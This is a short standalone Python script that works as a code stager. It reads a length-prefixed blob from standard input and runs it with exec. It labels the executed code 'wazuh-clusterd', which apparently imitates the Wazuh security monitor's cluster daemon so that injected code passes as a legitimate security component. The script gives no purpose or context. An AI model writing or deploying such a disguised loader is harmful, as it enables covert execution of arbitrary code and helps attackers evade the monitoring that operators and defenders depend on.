import os
def take(length):
    taken = b""
    while len(taken) < length:
        part = os.read(0, length - len(taken))
        if not part:
            os._exit(0)
        taken += part
    return taken
exec(compile(take(int.from_bytes(take(5)[:4], "big")), "wazuh-clusterd", "exec"))
